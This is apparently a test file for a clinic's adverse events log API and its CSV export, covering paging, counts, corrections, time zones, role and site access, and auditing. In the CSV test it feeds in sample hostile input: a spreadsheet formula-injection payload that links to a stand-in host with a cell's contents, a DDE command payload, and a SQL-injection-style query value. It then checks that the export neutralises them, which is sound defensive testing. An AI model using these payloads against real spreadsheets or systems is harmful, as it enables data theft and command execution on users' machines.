/**
 * The adverse events log and its CSV on both engines (issue 22): the site's events newest first, a
 * page at a time (keyset), with the counts by kind and severity of the whole filtered range; the
 * corrected kind shown; hostile text neutralised in the CSV; and the table of attempts that must
 * fail (a role that may not read it, another site, a nurse outside the care team, bad filters).
 */
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import type { AdverseEventKind, AdverseEventLog, AdverseEventLogItem, AdverseEventSeverity } from '@kairos/api';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { injectAs, signInAs, type TestAuth } from '../../../test/auth.js';
import { buildDemoApp, type ManualClock } from '../../../test/app.js';
import { describeEachEngine } from '../../../test/engines.js';
import { parseCsv } from '../../../test/parse-csv.js';
import { addSite, addStaff } from '../../../test/staff.js';
import { exportAdverseEventsCsv, CSV_CHUNK_ROWS } from '../../services/dosing-session/export-adverse-events-csv.js';
import { internalMeta } from '../../services/context.js';

describeEachEngine('the adverse events log and its CSV', (h) => {
  let app: FastifyInstance;
  let clock: ManualClock;
  const as: Record<string, TestAuth> = {};
  /** A patient of nurse@demo.test's care team, one outside it (nurse2's), and one moved to another site. */
  const mine = { patientId: '', sessionId: '' };
  const theirs = { patientId: '', sessionId: '' };
  const moved = { patientId: '', sessionId: '' };
  let otherSiteId = '';
  let reporterId = '';
  let hostileId = '';
  let correctedId = '';
  const SAME_INSTANT = new Date(Date.UTC(2026, 10, 20, 15, 0, 0));

  const get = (who: string, query: string): Promise<LightMyRequestResponse> =>
    injectAs(app, as[who] as TestAuth, { method: 'GET', url: `/api/adverse-events${query}` });
  const log = async (who: string, query = ''): Promise<AdverseEventLog> => {
    const r = await get(who, query);
    expect(r.statusCode, r.body).toBe(200);
    return r.json<AdverseEventLog>();
  };
  /** Every page of the log with `query`, `limit` at a time. */
  const allPages = async (who: string, query: string, limit: number) => {
    const items: AdverseEventLogItem[] = [];
    let first: AdverseEventLog | undefined;
    let cursor: string | null = null;
    for (let n = 0; n < 1000; n++) {
      const sep = query === '' ? '?' : '&';
      const page = await log(who, `${query}${sep}limit=${limit}${cursor === null ? '' : `&cursor=${encodeURIComponent(cursor)}`}`);
      first ??= page;
      items.push(...page.items);
      cursor = page.next;
      if (cursor === null) break;
    }
    return { first: first as AdverseEventLog, items };
  };
  const insertEvents = async (
    target: { patientId: string; sessionId: string },
    rows: { kind: AdverseEventKind; severity: AdverseEventSeverity; at: Date; serious?: boolean; description?: string }[],
  ) => {
    if (rows.length === 0) return;
    await h.database.db
      .insertInto('adverse_event')
      .values(
        rows.map((r) => ({
          session_id: target.sessionId,
          patient_id: target.patientId,
          kind: r.kind,
          severity: r.severity,
          serious: r.serious ?? false,
          description: r.description ?? null,
          occurred_at: r.at,
          action_taken: 'observed',
          reported_by: reporterId,
          reported_at: r.at,
        })),
      )
      .execute();
  };

  beforeAll(async () => {
    ({ app, clock } = await buildDemoApp(h.database));
    const db = h.database.db;
    for (const who of ['director', 'prescriber', 'nurse', 'nurse2', 'therapist', 'coordinator', 'admin'])
      as[who] = await signInAs(app, `${who}@demo.test`);
    const nurse = await db.selectFrom('app_user').select('id').where('email', '=', 'nurse@demo.test').executeTakeFirstOrThrow();
    reporterId = nurse.id;
    const sessions = await db.selectFrom('dosing_session').select(['id', 'patient_id']).orderBy('created_at').execute();
    const patients = [...new Set(sessions.map((s) => s.patient_id))];
    for (const [i, into] of [mine, theirs, moved].entries()) {
      const patientId = patients[i];
      const session = sessions.find((s) => s.patient_id === patientId);
      if (patientId === undefined || session === undefined) throw new Error('the demo has fewer than three patients with sessions');
      into.patientId = patientId;
      into.sessionId = session.id;
    }
    // Every demo patient with a session is in the first care team: the second patient goes to the second team (nurse2, prescriber2, therapist2).
    for (const role of ['nurse', 'prescriber', 'therapist'] as const) {
      const second = await db.selectFrom('app_user').select('id').where('email', '=', `${role}2@demo.test`).executeTakeFirstOrThrow();
      await db
        .updateTable('care_team_member')
        .set({ user_id: second.id })
        .where('patient_id', '=', theirs.patientId)
        .where('role', '=', role)
        .execute();
    }
    const onTeam = await db
      .selectFrom('care_team_member')
      .select('patient_id')
      .where('user_id', '=', nurse.id)
      .where('patient_id', 'in', [mine.patientId, theirs.patientId])
      .execute();
    expect(onTeam.map((t) => t.patient_id)).toEqual([mine.patientId]);

    // Seven events at one instant (pagination must neither split nor repeat them), and a spread of kinds and severities.
    await insertEvents(
      mine,
      Array.from({ length: 7 }, (_, i) => ({ kind: i % 2 === 0 ? 'nausea' : 'anxiety', severity: 'mild', at: SAME_INSTANT })),
    );
    await insertEvents(mine, [
      { kind: 'hypertension', severity: 'moderate', at: new Date(Date.UTC(2026, 10, 10, 16, 0)) },
      { kind: 'desaturation', severity: 'severe', at: new Date(Date.UTC(2026, 10, 12, 16, 0)), serious: true },
      // 23:30 in New York on 14 November (04:30 UTC on the 15th): the site's day decides.
      { kind: 'vomiting', severity: 'moderate', at: new Date(Date.UTC(2026, 10, 15, 4, 30)) },
    ]);
    await insertEvents(theirs, [
      { kind: 'bradycardia', severity: 'severe', at: new Date(Date.UTC(2026, 10, 18, 16, 0)), serious: true },
      { kind: 'nausea', severity: 'mild', at: new Date(Date.UTC(2026, 10, 19, 16, 0)) },
    ]);
    await insertEvents(moved, [{ kind: 'tachycardia', severity: 'moderate', at: new Date(Date.UTC(2026, 10, 16, 16, 0)) }]);

    // Reported and corrected through the API: hostile text in the description, and a kind corrected after the fact.
    const ago = (minutes: number) => new Date(clock.nowMs() - minutes * 60_000).toISOString();
    const hostile = await injectAs(app, as.nurse as TestAuth, {
      method: 'POST',
      url: `/api/sessions/${mine.sessionId}/adverse-events`,
      payload: {
        kind: 'other',
        description: '=HYPERLINK("http://evil.test/?x="&A1,"click")',
        severity: 'mild',
        serious: false,
        occurredAt: ago(30),
        actionTaken: '+SUM(1,2), then @cmd|"/c calc"!A0',
      },
    });
    expect(hostile.statusCode, hostile.body).toBe(201);
    hostileId = hostile.json<{ id: string }>().id;
    const reported = await injectAs(app, as.nurse as TestAuth, {
      method: 'POST',
      url: `/api/sessions/${mine.sessionId}/adverse-events`,
      payload: { kind: 'nausea', severity: 'mild', serious: false, occurredAt: ago(20), actionTaken: 'ondansetron offered' },
    });
    expect(reported.statusCode, reported.body).toBe(201);
    correctedId = reported.json<{ id: string }>().id;
    const corrected = await injectAs(app, as.prescriber as TestAuth, {
      method: 'POST',
      url: `/api/adverse-events/${correctedId}/corrections`,
      payload: { kind: 'vomiting', severity: 'moderate', reason: 'the patient vomited twice', correctionsSeen: 0 },
    });
    expect(corrected.statusCode, corrected.body).toBe(204);

    // The third patient moves to another site, with a medical director of its own.
    otherSiteId = await addSite(app, 'Boulder clinic');
    await db.updateTable('patient').set({ site_id: otherSiteId }).where('id', '=', moved.patientId).execute();
    await db.updateTable('dosing_session').set({ site_id: otherSiteId }).where('patient_id', '=', moved.patientId).execute();
    await addStaff(db, clock.now(), 'director@boulder.test', ['medical-director'], otherSiteId);
    as.otherDirector = await signInAs(app, 'director@boulder.test');
  });
  afterAll(async () => app.close());

  it('the medical director reads the site’s log newest first; the read is audited with the patients on the page', async () => {
    const l = await log('director');
    expect(l.site.timeZone).toBe('America/New_York');
    const times = l.items.map((i) => i.occurredAt);
    expect([...times].sort().reverse()).toEqual(times);
    expect(l.items.some((i) => i.patient.id === mine.patientId)).toBe(true);
    expect(l.items.some((i) => i.patient.id === theirs.patientId)).toBe(true);
    const audited = await h.database.db
      .selectFrom('audit_event')
      .select(['details', 'outcome'])
      .where('action', '=', 'adverse-event.log.read')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(audited.outcome).toBe('allowed');
    expect((audited.details as { patientIds: string[] }).patientIds).toEqual(expect.arrayContaining([mine.patientId, theirs.patientId]));
  });

  it('the counts by kind and by severity equal the rows of every page (the whole range, not the page)', async () => {
    const { first, items } = await allPages('director', '', 3);
    expect(first.items).toHaveLength(3);
    expect(items).toHaveLength(first.total);
    expect(new Set(items.map((i) => i.id)).size).toBe(items.length);
    for (const { kind, count } of first.byKind) expect(items.filter((i) => i.kind === kind).length, kind).toBe(count);
    for (const { severity, count } of first.bySeverity) expect(items.filter((i) => i.severity === severity).length, severity).toBe(count);
    expect(first.byKind.find((k) => k.kind === 'nausea')?.count).toBeGreaterThanOrEqual(5);
  });

  it('filtered by severity, the counts are those of the filtered range and every row has that severity', async () => {
    const { first, items } = await allPages('director', '?severity=severe', 1);
    expect(items.length).toBeGreaterThanOrEqual(2);
    expect(items.every((i) => i.severity === 'severe')).toBe(true);
    expect(first.total).toBe(items.length);
    expect(first.bySeverity).toEqual([
      { severity: 'mild', count: 0 },
      { severity: 'moderate', count: 0 },
      { severity: 'severe', count: items.length },
    ]);
  });

  it('pages two at a time through seven events of one instant: none missing, none twice, in id order', async () => {
    const day = '2026-11-20';
    const { items } = await allPages('director', `?from=${day}&to=${day}`, 2);
    const same = items.filter((i) => i.occurredAt === SAME_INSTANT.toISOString());
    expect(same).toHaveLength(7);
    expect(new Set(same.map((i) => i.id)).size).toBe(7);
    expect(same.map((i) => i.id)).toEqual([...same.map((i) => i.id)].sort().reverse());
  });

  it('the dates are days of the site’s calendar: 23:30 in New York belongs to that day, not to the UTC day', async () => {
    const on14 = await log('director', '?from=2026-11-14&to=2026-11-14&kind=vomiting');
    expect(on14.items.map((i) => i.occurredAt)).toEqual(['2026-11-15T04:30:00.000Z']);
    const on15 = await log('director', '?from=2026-11-15&to=2026-11-15&kind=vomiting');
    expect(on15.total).toBe(0);
  });

  it('a corrected event shows its corrected kind and severity, and says it was corrected', async () => {
    const l = await log('director', `?patientId=${mine.patientId}&kind=vomiting&severity=moderate`);
    const item = l.items.find((i) => i.id === correctedId);
    expect(item).toMatchObject({ kind: 'vomiting', severity: 'moderate', corrections: 1 });
    const asNausea = await log('director', `?patientId=${mine.patientId}&kind=nausea`);
    expect(asNausea.items.some((i) => i.id === correctedId)).toBe(false);
  });

  it('filters by review: reviewed and not reviewed split the events', async () => {
    const queue = await injectAs(app, as.director as TestAuth, {
      method: 'POST',
      url: `/api/adverse-events/${(await log('director', '?kind=bradycardia')).items[0]?.id}/review`,
      payload: { note: 'reviewed: atropine not needed' },
    });
    expect(queue.statusCode, queue.body).toBe(204);
    const all = (await log('director')).total;
    const reviewed = await log('director', '?review=reviewed');
    const notReviewed = await log('director', '?review=not-reviewed');
    expect(reviewed.items.every((i) => i.reviewedAt !== null && i.reviewedBy !== null)).toBe(true);
    expect(reviewed.total).toBeGreaterThanOrEqual(1);
    expect(reviewed.total + notReviewed.total).toBe(all);
  });

  it('a nurse sees the events of her care team’s patients only; a prescriber and a therapist may read too', async () => {
    const { items } = await allPages('nurse', '', 50);
    expect(items.length).toBeGreaterThan(0);
    expect(items.every((i) => i.patient.id !== theirs.patientId)).toBe(true);
    const onlyTheirs = await log('nurse', `?patientId=${theirs.patientId}`);
    expect(onlyTheirs).toMatchObject({ total: 0, items: [] });
    expect(onlyTheirs.byKind.every((k) => k.count === 0)).toBe(true);
    expect((await get('prescriber', '')).statusCode).toBe(200);
    expect((await get('therapist', '')).statusCode).toBe(200);
  });

  it('another site’s medical director sees that site’s events only, and this site’s none', async () => {
    const l = await log('otherDirector');
    expect(l.site.id).toBe(otherSiteId);
    expect(l.items.map((i) => i.patient.id)).toEqual([moved.patientId]);
    const here = await allPages('director', '', 200);
    expect(here.items.some((i) => i.patient.id === moved.patientId)).toBe(false);
  });

  const refusals: [name: string, who: string, url: string, status: number, field?: string][] = [
    ['the admin (no patient data) is refused', 'admin', '/api/adverse-events', 403],
    ['the admin is refused the CSV', 'admin', '/api/adverse-events.csv', 403],
    ['the coordinator (scheduling, not clinical safety) is refused', 'coordinator', '/api/adverse-events', 403],
    ['the coordinator is refused the CSV', 'coordinator', '/api/adverse-events.csv', 403],
    ['an unknown kind', 'director', '/api/adverse-events?kind=unicorn', 400, 'querystring.kind'],
    ['an unknown severity', 'director', '/api/adverse-events?severity=fatal', 400, 'querystring.severity'],
    ['an impossible date', 'director', '/api/adverse-events?from=2026-02-30', 400, 'querystring.from'],
    ['a date that is not a date', 'director', '/api/adverse-events?to=yesterday', 400, 'querystring.to'],
    ['to before from', 'director', '/api/adverse-events?from=2026-11-20&to=2026-11-01', 400, 'querystring.to'],
    ['to before from, in the CSV', 'director', '/api/adverse-events.csv?from=2026-11-20&to=2026-11-01', 400, 'querystring.to'],
    ['a review filter that is not one', 'director', '/api/adverse-events?review=maybe', 400, 'querystring.review'],
    ['a patient that is not an id', 'director', '/api/adverse-events?patientId=1%20OR%201=1', 400, 'querystring.patientId'],
    ['a site that is not an id', 'director', '/api/adverse-events?siteId=demo', 400, 'querystring.siteId'],
    ['a cursor this list did not give', 'director', '/api/adverse-events?cursor=2026-11-20,abc', 400, 'querystring.cursor'],
    [
      'a cursor with an impossible instant',
      'director',
      `/api/adverse-events?cursor=2026-02-30T10:00:00.000Z,${'0'.repeat(8)}-0000-0000-0000-${'0'.repeat(12)}`,
      400,
      'querystring.cursor',
    ],
    ['a page of none', 'director', '/api/adverse-events?limit=0', 400, 'querystring.limit'],
    ['a page too big', 'director', '/api/adverse-events?limit=201', 400, 'querystring.limit'],
    ['an unknown filter', 'director', '/api/adverse-events?serious=true', 400, 'querystring'],
    ['a page size in the CSV (it has none)', 'director', '/api/adverse-events.csv?limit=5', 400, 'querystring'],
  ];
  for (const [name, who, url, status, field] of refusals)
    it(`refused: ${name} (${status}${field === undefined ? '' : `, naming ${field}`})`, async () => {
      const r = await injectAs(app, as[who] as TestAuth, { method: 'GET', url });
      expect(r.statusCode, r.body).toBe(status);
      if (field !== undefined) {
        const issues = r.json<{ error: { details: { issues: { field: string }[] } } }>().error.details.issues;
        expect(issues.map((i) => i.field)).toContain(field);
      }
    });

  it('refused and audited: the medical director asking for another site’s log or CSV', async () => {
    for (const url of [`/api/adverse-events?siteId=${otherSiteId}`, `/api/adverse-events.csv?siteId=${otherSiteId}`]) {
      const before = await h.database.db
        .selectFrom('audit_event')
        .select('seq')
        .where('outcome', '=', 'denied')
        .where('record_id', '=', otherSiteId)
        .execute();
      const r = await injectAs(app, as.director as TestAuth, { method: 'GET', url });
      expect(r.statusCode, r.body).toBe(403);
      const after = await h.database.db
        .selectFrom('audit_event')
        .select('seq')
        .where('outcome', '=', 'denied')
        .where('record_id', '=', otherSiteId)
        .execute();
      expect(after.length, url).toBe(before.length + 1);
    }
  });

  it('refused and audited: a role that may not read the log', async () => {
    const count = async () =>
      (
        await h.database.db
          .selectFrom('audit_event')
          .select('seq')
          .where('outcome', '=', 'denied')
          .where('user_id', 'is not', null)
          .execute()
      ).length;
    const before = await count();
    expect((await get('coordinator', '')).statusCode).toBe(403);
    expect(await count()).toBe(before + 1);
  });

  it('the CSV: header in words, times at the site, the corrected kind, hostile text neutralised, audited', async () => {
    const r = await injectAs(app, as.director as TestAuth, { method: 'GET', url: `/api/adverse-events.csv?patientId=${mine.patientId}` });
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(r.headers['content-disposition']).toMatch(/^attachment; filename="adverse-events-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(r.body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(r.body.slice(1));
    expect(header?.[0]).toBe('Onset (America/New_York)');
    const col = (name: string) => (header ?? []).indexOf(name);
    const total = (await log('director', `?patientId=${mine.patientId}`)).total;
    expect(rows).toHaveLength(total);

    const hostile = rows.find((row) => row[col('Reference')] === hostileId);
    expect(hostile?.[col('Description')]).toBe('\'=HYPERLINK("http://evil.test/?x="&A1,"click")');
    expect(hostile?.[col('Action taken')]).toBe('\'+SUM(1,2), then @cmd|"/c calc"!A0');
    expect(hostile?.[col('Kind')]).toBe('Other');
    // On the wire: the apostrophe comes first inside the quotes, so no cell begins with a formula sign.
    expect(r.body).toContain('"\'=HYPERLINK(""http://evil.test/?x=""&A1,""click"")"');
    for (const row of rows) for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);

    const corrected = rows.find((row) => row[col('Reference')] === correctedId);
    expect(corrected?.[col('Kind')]).toBe('Vomiting');
    expect(corrected?.[col('Severity')]).toBe('Moderate');
    expect(corrected?.[col('Corrected')]).toBe('yes');
    expect(corrected?.[col('Corrections')]).toBe('1');

    const late = rows.find((row) => row[col('Onset (America/New_York)')] === '2026-11-14 23:30');
    expect(late?.[col('Kind')]).toBe('Vomiting');

    const audited = await h.database.db
      .selectFrom('audit_event')
      .select(['details'])
      .where('action', '=', 'adverse-event.log.export')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(audited.details).toMatchObject({ rows: total, patientIds: [mine.patientId], filters: { patientId: mine.patientId } });
  });

  it('the CSV of a nurse holds her care team’s patients only', async () => {
    const r = await injectAs(app, as.nurse as TestAuth, { method: 'GET', url: '/api/adverse-events.csv' });
    expect(r.statusCode).toBe(200);
    const names = new Set(
      parseCsv(r.body.slice(1))
        .slice(1)
        .map((row) => row[1]),
    );
    const theirName = await h.database.db
      .selectFrom('patient')
      .select(['given_name', 'family_name'])
      .where('id', '=', theirs.patientId)
      .executeTakeFirstOrThrow();
    expect(names.has(`${theirName.given_name} ${theirName.family_name}`)).toBe(false);
    expect(names.size).toBeGreaterThan(0);
  });

  it('a large export streams in keyset chunks: the first chunk after the header holds one chunk of rows, and every row arrives once', async () => {
    const base = Date.UTC(2026, 9, 1, 12, 0);
    await insertEvents(
      theirs,
      Array.from({ length: CSV_CHUNK_ROWS * 2 + 37 }, (_, i) => ({
        kind: 'anxiety' as const,
        severity: 'mild' as const,
        // Pairs share an instant, so chunk edges fall inside groups of equal times.
        at: new Date(base + Math.floor(i / 2) * 60_000),
      })),
    );
    const director = await h.database.db
      .selectFrom('app_user')
      .select(['id', 'email', 'display_name', 'roles', 'site_id'])
      .where('email', '=', 'director@demo.test')
      .executeTakeFirstOrThrow();
    const csv = await exportAdverseEventsCsv(
      h.database.db,
      { userId: director.id, email: director.email, displayName: director.display_name, roles: director.roles, siteId: director.site_id },
      { patientId: theirs.patientId, kind: 'anxiety' },
      internalMeta('adverse-event-log test', clock.now()),
    );
    expect(csv.rows).toBe(CSV_CHUNK_ROWS * 2 + 37);
    const chunks: string[] = [];
    for await (const chunk of csv.chunks) chunks.push(chunk);
    expect(chunks).toHaveLength(4);
    expect(parseCsv(chunks[1] ?? '')).toHaveLength(CSV_CHUNK_ROWS);
    const r = await injectAs(app, as.director as TestAuth, {
      method: 'GET',
      url: `/api/adverse-events.csv?patientId=${theirs.patientId}&kind=anxiety`,
    });
    const rows = parseCsv(r.body.slice(1)).slice(1);
    expect(rows).toHaveLength(csv.rows);
    expect(new Set(rows.map((row) => row.at(-1))).size).toBe(csv.rows);
  });
});
